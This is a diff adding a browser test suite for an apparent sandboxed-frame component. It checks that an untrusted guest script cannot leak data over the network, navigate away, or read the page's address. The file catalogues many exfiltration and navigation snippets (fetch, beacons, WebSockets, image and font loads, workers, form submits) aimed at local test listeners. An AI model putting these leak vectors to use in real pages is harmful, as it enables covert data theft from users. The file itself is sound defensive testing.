@@ -1,0 +1,146 @@
+import {expect} from '@open-wc/testing';
+import {until} from '../support/frame.js';
+import {attack, attacker, bareFrame, carriers, engine, heard, once, oracle} from './attack.js';
+
+/** Ways out that leave the document where it is; `to(what)` is where the oracle listens. */
+const vectors: Record<string, string> = {
+  fetch: `fetch(to('fetch'), {mode: 'no-cors'}).catch(() => {})`,
+  xhr: `const xhr = new XMLHttpRequest(); xhr.open('GET', to('xhr')); xhr.send()`,
+  beacon: `navigator.sendBeacon(to('beacon'), 'x')`,
+  websocket: `new WebSocket(to('websocket').replace('http', 'ws'))`,
+  eventsource: `new EventSource(to('eventsource'))`,
+  image: `new Image().src = to('image')`,
+  srcset: `make('img', {srcset: to('srcset') + ' 1x'})`,
+  svg: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + to('svg') + '"/></svg>')`,
+  input: `make('input', {type: 'image', src: to('input')})`,
+  video: `make('video', {src: to('video'), preload: 'auto'})`,
+  poster: `make('video', {poster: to('poster')})`,
+  audio: `make('audio', {src: to('audio'), preload: 'auto'})`,
+  stylesheet: `make('link', {rel: 'stylesheet', href: to('stylesheet')})`,
+  import: `make('style', {textContent: '@import "' + to('import') + '";'})`,
+  background: `make('p', {textContent: '.'}).style.backgroundImage = 'url(' + to('background') + ')'`,
+  font: `new FontFace('x', 'url(' + to('font') + ')').load().catch(() => {})`,
+  script: `make('script', {src: to('script')})`,
+  module: `import(to('module')).catch(() => {})`,
+  preload: `make('link', {rel: 'preload', as: 'image', href: to('preload')})`,
+  prefetch: `make('link', {rel: 'prefetch', href: to('prefetch')})`,
+  icon: `make('link', {rel: 'icon', href: to('icon')})`,
+  frame: `make('iframe', {src: to('frame')})`,
+  object: `make('object', {data: to('object')})`,
+  embed: `make('embed', {src: to('embed')})`,
+  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + to('worker') + '", {mode: "no-cors"})'])))`,
+  nested: `make('iframe', {srcdoc: '<img src="' + to('nested') + '">'})`,
+};
+
+/** What an engine does not fetch from a bare frame either, so that nothing is proved by its absence. */
+const silent: Record<typeof engine, readonly string[]> = {
+  chromium: ['icon'],
+  firefox: ['icon'],
+  webkit: ['icon', 'prefetch'],
+};
+const telling = Object.keys(vectors).filter((what) => !silent[engine].includes(what));
+
+const everywhere = (base: string) => `
+  const to = (what) => ${JSON.stringify(base)} + what;
+  const make = (tag, members) => document.body.appendChild(Object.assign(document.createElement(tag), members));
+  for (const attempt of [${Object.values(vectors)
+    .map((code) => `() => {${code}}`)
+    .join(',\n')}]) try { attempt(); } catch {}
+  report('tried');`;
+
+/** Ways out that would replace the document. */
+const departures: Record<string, string> = {
+  location: `location.href = to`,
+  replace: `location.replace(to)`,
+  anchor: `const link = document.createElement('a'); link.href = to; document.body.append(link); link.click()`,
+  refresh: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + to; document.head.append(meta)`,
+  form: `const form = document.createElement('form'); form.action = to; document.body.append(form); form.submit()`,
+  rewritten: `document.open(); document.write('<script>location.href = ' + JSON.stringify(to) + '</' + 'script>'); document.close()`,
+};
+
+describe('L2: a guest that would send what it knows over the network', () => {
+  for (const [carrier, options] of carriers) {
+    it(`reaches nobody, by ${telling.length} ways out (${carrier}); a bare frame reaches all`, async () => {
+      const kept = oracle();
+      const leaked = oracle();
+      const {frame, reports, outcome, endings} = await attack(attacker(everywhere(kept.base)), options);
+      await until(() => reports().includes('tried'), 'the attempts');
+
+      // Begins after the guest did, and is over before the guest is judged: the guest has had the time to leak.
+      await bareFrame(everywhere(leaked.base));
+      await heard(leaked, telling);
+
+      expect(await kept.hits()).to.deep.equal({});
+      expect(frame.status).to.equal('ready');
+      frame.cancel();
+      expect(await outcome).to.deep.equal({action: 'cancel'});
+      expect(endings).to.deep.equal(once);
+    });
+  }
+});
+
+describe('N1: a guest that would take what it knows to another page', () => {
+  for (const [carrier, options] of carriers) {
+    for (const [what, code] of Object.entries(departures)) {
+      it(`cannot, by ${what} (${carrier}); a bare frame can`, async () => {
+        const kept = oracle();
+        const leaked = oracle();
+        const {frame, outcome, endings, contexts} = await attack(
+          attacker(`const to = ${JSON.stringify(kept.url(what))}; ${code}`),
+          options,
+        );
+        await until(() => contexts().length > 0, 'the context');
+
+        await bareFrame(
+          `addEventListener('load', () => setTimeout(() => { const to = ${JSON.stringify(leaked.url(what))}; ${code} }))`,
+        );
+        await heard(leaked, [what]);
+
+        expect(await kept.hits()).to.deep.equal({});
+        // A form may be stopped by `form-action`, which leaves the guest where it is.
+        if (what === 'form') frame.cancel();
+        const stopped =
+          what === 'form' ? [{action: 'cancel'}, {code: 'GUEST_NAVIGATED'}] : [{code: 'GUEST_NAVIGATED'}];
+        expect(stopped).to.deep.include(await outcome);
+        expect(endings).to.deep.equal(once);
+      });
+    }
+  }
+});
+
+describe("L1: a guest that would learn the page's address", () => {
+  const curious = `report([
+    document.baseURI, document.URL, document.referrer, name, location.href, parent.length,
+    ...(location.ancestorOrigins ?? []), performance.getEntriesByType('navigation')[0]?.name ?? '',
+    new Error().stack ?? '', new URL('', document.baseURI).href,
+  ])`;
+  let address: string;
+
+  beforeEach(() => {
+    address = location.href;
+    const secret = new URL(address);
+    secret.searchParams.set('secret', 'canary');
+    history.replaceState(history.state, '', secret);
+  });
+  afterEach(() => history.replaceState(history.state, '', address));
+
+  for (const [carrier, options] of carriers) {
+    it(`finds no more of it than the origin (${carrier})`, async () => {
+      const {frame, reports, outcome} = await attack(attacker(curious), options);
+
+      await until(() => reports().length, 'the report');
+
+      expect(JSON.stringify(reports())).to.not.contain('canary');
+      frame.cancel();
+      await outcome;
+    });
+  }
+
+  it('finds it in a bare frame (positive control)', async () => {
+    const {reports} = await bareFrame(curious);
+
+    await until(() => reports.length, 'the report');
+
+    expect(JSON.stringify(reports)).to.contain('canary');
+  });
+});
